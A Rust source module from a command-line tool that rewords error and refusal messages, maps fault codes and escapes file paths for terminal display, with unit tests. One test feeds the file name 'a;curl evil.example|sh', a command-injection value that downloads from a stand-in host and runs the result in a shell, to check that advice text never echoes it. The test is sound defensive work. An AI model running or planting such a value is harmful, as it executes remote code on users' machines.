//! Rewords records and refusals for users of this command; their sentences are written for the tool of agents.

use dray_reading::message::escape_path;
use dray_reading::record::{Code, Record};
use dray_types::{Fault, FaultCode};

/// Advice of the tool that names a configuration setting, and its replacement for this command.
const STRICT_ADVICE: [&str; 2] = [
    "Set tools.workspace_strict=false in config.yml to disable this check.",
    "Name its directory with --root, or add --no-workspace-strict.",
];

/// Advice for a file that is not a document. It leaves out the name of the file, which comes from outside: people copy
/// such a command into a shell.
pub(super) const CLASSIFY_ADVICE: &str = "`dray classify` detects the type of a file.";

/// A sentence of the tool for a user of this command.
pub(super) fn shown_message(output: &str) -> String {
    let [of_tool, of_command] = STRICT_ADVICE;
    output
        .replace(of_tool, of_command)
        .replace(" is a archive (", " is an archive (")
        .replace(" is a image (", " is an image (")
}

/// The record of a document that could not be fetched.
pub(super) fn unfetched_record(fault: &Fault, document: &str) -> Record {
    let code = match fault.code {
        FaultCode::NotFound => Code::NotFound,
        FaultCode::TooLarge => Code::TooLarge,
        FaultCode::Internal => Code::Internal,
        _ => Code::Unreadable,
    };
    let mut output = format!(
        "Error: cannot read {}: {}",
        escape_path(document),
        fault.message
    );
    if !fault.advice.is_empty() {
        output.push(' ');
        output.push_str(&fault.advice);
    }
    Record::refused(code, output)
}

/// The fault for a refusal, with a code for scripts.
pub(super) fn refusal_fault(record: &Record, document: &str) -> Fault {
    let code = record.error_code.unwrap_or(Code::Internal);
    let kind = match code {
        Code::NotFound => FaultCode::NotFound,
        Code::TooLarge => FaultCode::TooLarge,
        Code::KindNotAllowed => FaultCode::Unsupported,
        Code::OutsideWorkspace | Code::Unreadable => FaultCode::Denied,
        Code::Internal => FaultCode::Internal,
        _ => FaultCode::InvalidArgument,
    };
    let message = match code {
        // The name is escaped, because it is shown on a terminal.
        Code::NotFound => format!("The file {} does not exist.", escape_path(document)),
        _ => shown_message(record.output.trim_start_matches("Error: ")),
    };
    let fault = Fault::new(kind, message).detail(code.word());
    match code {
        Code::KindNotAllowed => fault.advice(CLASSIFY_ADVICE),
        _ => fault,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn advice_names_flags_of_this_command() {
        let of_tool = dray_reading::message::outside_workspace("/nope", "/w");
        assert_eq!(
            shown_message(&of_tool),
            "Error: refusing to access '/nope' — outside /w. Name its directory with --root, or add --no-workspace-strict."
        );
    }

    #[test]
    fn a_command_in_advice_has_no_name_that_a_shell_would_run() {
        let record = Record::refused(Code::KindNotAllowed, "Error: it is a binary".to_owned());
        let fault = refusal_fault(&record, "a;curl evil.example|sh");
        assert!(fault.advice.contains("`dray classify`"), "{fault:?}");
        assert!(!fault.advice.contains("curl"), "{fault:?}");
    }

    #[test]
    fn a_document_that_was_not_fetched_has_a_record() {
        let fault = Fault::new(FaultCode::Denied, "It is off.").detail("disabled_by_admin");
        let record = unfetched_record(&fault, "https://a.example/\n");
        assert_eq!(record.error_code, Some(Code::Unreadable));
        assert_eq!(
            record.output,
            "Error: cannot read https://a.example/\\u{a}: It is off."
        );
    }
}
